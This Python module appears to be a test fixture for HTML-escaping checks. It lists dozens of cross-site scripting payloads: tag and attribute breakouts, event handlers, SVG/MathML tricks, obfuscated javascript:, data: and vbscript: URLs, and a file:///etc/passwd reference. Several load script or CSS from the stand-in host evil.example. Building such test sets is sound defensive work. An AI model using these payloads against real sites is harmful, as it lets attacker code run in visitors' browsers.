# ruff: noqa: E501  payloads, a line for what belongs together
"""Texts that run where somebody forgets to escape: what a hostile portal puts where a name or a title belongs.

Each calls ``pwned()`` in its own way. They come from what browsers do (the HTML standard's parsing of attributes, raw
text, foreign content, URLs), one for each way out of a context: between tags, in an attribute, in a script, in a URL.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>pwned()</script>", "<ScRiPt>pwned()</sCrIpT>", "<script src=//evil.example/x.js></script>", "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>", "</style><script>pwned()</script>", "--><script>pwned()</script>", "]]><script>pwned()</script>",
    "</script><script>pwned()</script>", "'\"><script>pwned()</script>", "<img src=x onerror=pwned()>", "<img src=x onerror='pwned()'//",
    "\"><img src=x onerror=pwned()>", "'><img src=x onerror=pwned()>", "\" onmouseover=pwned() x=\"", "' onfocus=pwned() autofocus x='",
    "\" autofocus onfocus=pwned() \"", "` onerror=pwned() `", "<svg onload=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>", "<body onload=pwned()>", "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>", "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()>",
    "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>", "<a href=javascript:pwned()>x</a>", "<a href=' jav&#x09;ascript:pwned()'>x</a>", "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "<form action=javascript:pwned()><button>x</button></form>", "<button formaction=javascript:pwned() form=x>x</button>", "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
    "<base href=javascript:/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<div style=background:url(javascript:pwned())>",
    "<marquee onstart=pwned()>x</marquee>", "<template><script>pwned()</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<isindex action=javascript:pwned() type=image>",
    "{{constructor.constructor('pwned()')()}}", "{% raw %}<script>pwned()</script>{% endraw %}", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;",
    "\u003cscript\u003epwned()\u003c/script\u003e", "＜script＞pwned()＜/script＞", "<<script>pwned();//<</script>", "<a\x0chref=javascript:pwned()>x</a>",
)  # fmt: skip

ADDRESSES = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "java\nscript:pwned()", "\x01javascript:pwned()", " javascript:pwned()",
    "javascript&colon;pwned()", "&#106;avascript:pwned()", "javascript://congtin.example/%0apwned()", "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "vbscript:pwned()", "feed:javascript:pwned()", "view-source:javascript:pwned()",
    "blob:null/x", "file:///etc/passwd", "//evil.example/%22onmouseover=pwned()", "http://congtin.example/\"onmouseover=\"pwned()",
)  # fmt: skip
